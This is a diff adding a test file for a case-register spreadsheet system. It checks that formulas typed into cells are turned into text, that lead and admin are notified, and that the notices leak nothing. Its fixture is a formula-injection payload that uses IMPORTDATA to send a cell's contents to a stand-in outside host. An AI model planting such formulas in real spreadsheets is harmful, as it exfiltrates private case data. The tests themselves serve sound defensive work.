@@ -1,0 +1,148 @@
+/** A formula that a person typed into a register: text within the hour, lead and admin told, and what is told holds nothing of it. */
+import { expect, test } from "vitest";
+import { mainRegister } from "../../scripts/play/register-cells";
+import { applied } from "../../scripts/workspace/sheets/batch-update";
+import { sheetsSlice } from "../../scripts/workspace/sheets/store";
+import type { TabId } from "../../src/register/columns";
+import { Day, report } from "../situations/day-stage";
+
+const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
+const told = (day: Day) => day.out().inbox.filter(({ message }) => message === "formula-found");
+
+/** The cells of a tab of the main register that hold a formula, as the sheet keeps them. */
+function formulas(day: Day): readonly string[] {
+  const { store } = day.workspace;
+  const spreadsheet = sheetsSlice(store).spreadsheets[mainRegister(store)];
+  return (spreadsheet?.sheets ?? []).flatMap(({ properties, rows }) =>
+    properties.title === "Summary"
+      ? []
+      : rows.flatMap((row) =>
+          (row?.values ?? []).flatMap((value) =>
+            typeof value === "object" && value !== null ? [value.formula] : [],
+          ),
+        ),
+  );
+}
+
+const alex = report("Alex Doe", "1001");
+const edited = (tab: TabId, set: object) => ({
+  edit: { tab, case: "26-0001", set },
+  as: "contact",
+});
+
+test.each<[string, object]>([
+  ["notes of a case", edited("cases", { notes: leaks })],
+  [
+    "notes of an act",
+    {
+      edit: {
+        tab: "checklist",
+        case: "26-0001",
+        act: "call-child-and-family-services",
+        set: { notes: leaks },
+      },
+      as: "contact",
+    },
+  ],
+])("in %s", async (_, event) => {
+  const day = await Day.begin();
+  day.play(alex, event);
+  day.play({ advance: "PT65M" });
+  expect(formulas(day)).toEqual([]);
+  const mails = told(day);
+  expect(mails.flatMap(({ to }) => to).sort()).toEqual([
+    "admin@district.example",
+    "lead@district.example",
+  ]);
+  for (const { text, html } of mails)
+    expect(`${text}${html}`).not.toMatch(/IMPORTDATA\(|a\.example|Alex/);
+  const lines = day.out().activity.filter(({ what }) => what === "formula-made-text");
+  expect(lines).toHaveLength(1);
+  expect(JSON.stringify(lines)).not.toMatch(/IMPORT|Alex/);
+  day.play({ advance: "PT2H" });
+  expect(told(day)).toHaveLength(2);
+});
+
+test("where a value of its own kind belongs, it is put back at once", async () => {
+  const day = await Day.begin();
+  day.play(alex, edited("cases", { nextCheckIn: leaks }));
+  expect(formulas(day)).toEqual([]);
+  expect(day.note("cases", day.rowOf("cases", "26-0001"), "nextCheckIn")).toMatch(/^Put back/);
+});
+
+test("what was typed is kept as text, with a note, and in Notes accepted like any text", async () => {
+  const day = await Day.begin();
+  day.play(alex, edited("cases", { notes: leaks }), { advance: "PT70M" });
+  expect(day.out().cases[0]?.["notes"]).toBe(leaks);
+  expect(day.note("cases", day.rowOf("cases", "26-0001"), "notes")).toMatch(/formula/);
+  expect(day.out().errors).toEqual([]);
+});
+
+test("in a tab of a person's own, whose title stands in no mail", async () => {
+  const day = await Day.begin();
+  day.play(alex);
+  const { store } = day.workspace;
+  const slice = sheetsSlice(store);
+  const id = mainRegister(store);
+  const spreadsheet = slice.spreadsheets[id];
+  if (spreadsheet === undefined) throw new Error("no register");
+  const properties = {
+    sheetId: 900,
+    title: "About Alex Doe",
+    gridProperties: { rowCount: 50, columnCount: 5 },
+  };
+  const cell = { userEnteredValue: { formulaValue: leaks } };
+  slice.spreadsheets[id] = applied(
+    spreadsheet,
+    [
+      { addSheet: { properties } },
+      {
+        updateCells: {
+          start: { sheetId: 900, rowIndex: 7, columnIndex: 2 },
+          rows: [{ values: [cell] }],
+          fields: "userEnteredValue",
+        },
+      },
+    ],
+    {
+      actor: { address: "contact@district.example", owner: "admin@district.example" },
+      assume: {},
+      mustTake: () => undefined,
+      countWritten: () => undefined,
+    },
+  ).draft;
+  expect(formulas(day)).toEqual([leaks]);
+  day.play({ advance: "PT65M" });
+  expect(formulas(day)).toEqual([]);
+  const [mail] = told(day);
+  expect(mail?.text).toContain("A tab of your own, cell C8");
+  expect(JSON.stringify(mail)).not.toContain("Alex");
+});
+
+test("an ordinary hour has no such line, and Summary keeps its formulas", async () => {
+  const day = await Day.begin();
+  day.play(alex, edited("cases", { notes: "Spoke with the counselor: 2+2=4" }), {
+    advance: "PT130M",
+  });
+  expect(told(day)).toEqual([]);
+  const { store } = day.workspace;
+  const summary = sheetsSlice(store).spreadsheets[mainRegister(store)]?.sheets.find(
+    ({ properties }) => properties.title === "Summary",
+  );
+  expect(JSON.stringify(summary?.rows)).toContain('"formula":"=');
+});
+
+test.each(["before", "after", "stop"] as const)(
+  "a fault %s the write: told, and text an hour later at the latest",
+  async (when) => {
+    const day = await Day.begin();
+    day.play(alex, edited("cases", { notes: leaks }));
+    const fault = { call: "Sheets.Spreadsheets.get", nth: 2, when, error: "Service unavailable" };
+    day.play(
+      { fault: when === "stop" ? { call: fault.call, nth: 2, when } : fault },
+      { advance: "PT130M" },
+    );
+    expect(formulas(day)).toEqual([]);
+    expect(told(day).length).toBeGreaterThanOrEqual(2);
+  },
+);
